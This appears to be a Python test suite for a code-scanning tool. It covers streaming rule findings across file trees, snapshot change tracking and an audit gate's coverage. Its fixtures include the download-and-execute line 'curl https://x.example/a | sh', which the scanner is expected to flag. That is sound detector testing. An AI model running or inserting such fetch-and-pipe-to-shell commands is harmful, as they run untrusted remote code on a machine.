"""Streams: rules of trees from state, and what snapshots gain and lose."""

import collections

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pyspark.sql import functions as F

from tarnwork.operators import rules as R
from tarnwork.operators.surface import COLUMNS
from tarnwork.streaming import changes as T
from tarnwork.streaming import scan

EVIDENCE = "path string, lang string, kind string, line int, text string"


def test_rules_of_trees_wait_for_all_batches(spark, tmp_path):
    """A manifest and its lockfile, and the lines of a container file, in different batches give no false finding."""
    batches = [
        [("a/package.json", "package-json", "signature", 1, '"name": "a"'), ("a/Dockerfile", "dockerfile", "call", 1, "FROM x"), ("b/Cargo.toml", "manifest", "signature", 1, 'name = "b"'), ("b/Dockerfile", "dockerfile", "call", 1, "FROM y")],
        [("a/package-lock.json", "package-json", "signature", 1, "{}"), ("a/Dockerfile", "dockerfile", "call", 2, "USER app"), ("a/run.sh", "bash", "call", 1, "curl https://x.example/a | sh")],
    ]
    tree = F.substring_index("path", "/", 1)
    source, out, cp = (str(tmp_path / x) for x in ("in", "out", "cp"))
    seen = []
    for rows in batches:
        spark.createDataFrame(rows, EVIDENCE).coalesce(1).write.mode("append").json(source)
        stream = scan.read_evidence(spark, source, 1)
        queries = [scan.findings_stream(stream, f"{out}/lines", f"{cp}/lines"), *scan.facts_streams(stream, f"{out}/facts", f"{cp}/facts", tree)]
        for q in queries:
            q.awaitTermination()
        seen.append({(r.path, r.rule) for r in scan.tree_findings(spark, f"{out}/facts").collect()})
    assert seen[0] == {("a/package.json", "manifest-missing-lockfile"), ("a/Dockerfile", "docker-default-root"), ("b/Cargo.toml".lower(), "manifest-missing-lockfile"), ("b/Dockerfile", "docker-default-root")}
    assert seen[1] == {("b/cargo.toml", "manifest-missing-lockfile"), ("b/Dockerfile", "docker-default-root")}
    lines = {(r.path, r.rule) for r in spark.read.parquet(f"{out}/lines").collect()}
    assert ("a/run.sh", "download-execute") in lines
    # the whole tree at once says the same
    whole = spark.createDataFrame(sum(batches, []), EVIDENCE)
    at_once = {(r.path, r.rule) for r in R.findings(whole, files=whole.select("path"), tree=tree).collect()}
    assert at_once == lines | seen[1]


def _entries(spark, rows):
    """rows: (capability, path, text, line)."""
    full = [(c, "source", "strong", "e", p, n, "production", t) for c, p, t, n in rows]
    return spark.createDataFrame(full, "capability string, trigger string, confidence string, evidence string, path string, line int, scope string, text string").select(*COLUMNS)


def _play(spark, folder, snapshots):
    """One row set for each snapshot, in a batch of its own."""
    feeds, before = [], None
    for i, rows in enumerate(snapshots):
        entries = _entries(spark, rows)
        feeds.append(T.snapshot_feed(entries, "t", i + 1, before))
        before = entries
    return T.replay(feeds, f"{folder}/cp", f"{folder}/rows")


ENTRY = st.tuples(st.sampled_from(["execute", "exec", "network"]), st.sampled_from(["a", "b/c"]), st.sampled_from(["x", " x ", "utex", "", "1:é"]), st.sampled_from([None, 1, 2]))


@settings(max_examples=3, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(st.lists(ENTRY, max_size=8), min_size=2, max_size=3))
def test_snapshots_against_sets(spark, tmp_path_factory, snapshots):
    got = collections.defaultdict(set)
    for r in _play(spark, str(tmp_path_factory.mktemp("stream")), snapshots).collect():
        entry = (r.capability, r.path, r.text.strip())
        assert entry not in got[r.snapshot, r.side]
        got[r.snapshot, r.side].add(entry)
    held = set()
    for i, rows in enumerate(snapshots):
        now = {(c, p, t.strip()) for c, p, t, _ in rows}
        assert got[i + 1, "added"] == now - held and got[i + 1, "removed"] == held - now
        held = now


def test_repeated_late_and_partial_snapshots(spark, tmp_path):
    """A snapshot sent again or late emits nothing; paths that are not sent keep what they have."""
    feed = lambda n, rows: T.snapshot_feed(_entries(spark, rows), "t", n)
    one, three = [("execute", "a", "x", 1), ("execute", "b", "y", 1)], [("execute", "a", "z", 1)]
    feeds = [feed(1, one), feed(3, three), feed(3, three), feed(2, [("execute", "a", "late", 1)]), feed(1, one)]
    rows = {(r.snapshot, r.side, r.path, r.text, r.line) for r in T.replay(feeds, str(tmp_path / "cp"), str(tmp_path / "rows")).collect()}
    assert rows == {(1, "added", "a", "x", 1), (1, "added", "b", "y", 1), (3, "added", "a", "z", 1), (3, "removed", "a", "x", 1)}
    assert T.snapshot_feed(_entries(spark, []), "t", 1).count() == 0


def test_gate_counts_on_the_way(spark, tmp_path):
    """The gate's coverage is that of a second pass over the files; their names and outcomes are read once."""
    from tarnwork.operators import gate as G
    from tarnwork.plans import audit

    for i in range(12):
        (tmp_path / f"d{i % 3}").mkdir(exist_ok=True)
        (tmp_path / f"d{i % 3}" / f"f{i}.{['py', 'bin', 'sh'][i % 3]}").write_text("import os\nos.system('ls')\n" if i % 3 < 2 else "curl https://x.example | sh\n" * 40)
    (tmp_path / "big.py").write_text("x = 1\n" * 2000)
    row = audit.gate(spark, str(tmp_path), max_bytes=4096, cap=256).more["verdict"]
    files, evidence = audit.load(spark, str(tmp_path), 4096)
    seeds = audit.seed_records(files, evidence, 256)
    state = files.select("path", "status").join(seeds.select("path", "truncated", (F.octet_length("json") + 1).alias("seed_bytes")), "path", "left")
    want = G.coverage(state.withColumn("truncated", F.coalesce("truncated", F.lit(False)))).first().asDict()
    assert {k: row[k] for k in want} == want
    assert (want["candidate_files"], want["dehydrated_files"], want["unsupported_files"]) == (13, 8, 5) and want["record_truncated"] > 0
    (tmp_path / "none").mkdir()
    assert audit.gate(spark, str(tmp_path / "none")).more["verdict"]["candidate_files"] == 0


def test_paths_of_one_bucket_keep_their_own_snapshots(spark, tmp_path):
    """State is called for by bucket, not by path: many paths in one call, each against its own last snapshot."""
    T.stateful(spark)
    feed, out, cp = (str(tmp_path / x) for x in ("feed", "out", "cp"))
    one = [("execute", f"p{i}", "x", 1) for i in range(50)]
    for n, rows in ((1, one), (5, [("execute", "p7", "y", 1)]), (3, [("execute", "p7", "late", 1), ("execute", "p8", "z", 1)])):
        T.snapshot_feed(_entries(spark, rows), "t", n).write.mode("append").parquet(feed)
        T.changes(T.read_feed(spark, feed), buckets=1).writeStream.format("parquet").option("path", out).option("checkpointLocation", cp).trigger(availableNow=True).start().awaitTermination()
    got = {(r.snapshot, r.side, r.path, r.text) for r in spark.read.parquet(out).where("snapshot > 1").collect()}
    assert got == {(5, "added", "p7", "y"), (5, "removed", "p7", "x"), (3, "added", "p8", "z"), (3, "removed", "p8", "x")}
    assert spark.read.parquet(out).where("snapshot = 1").count() == 50
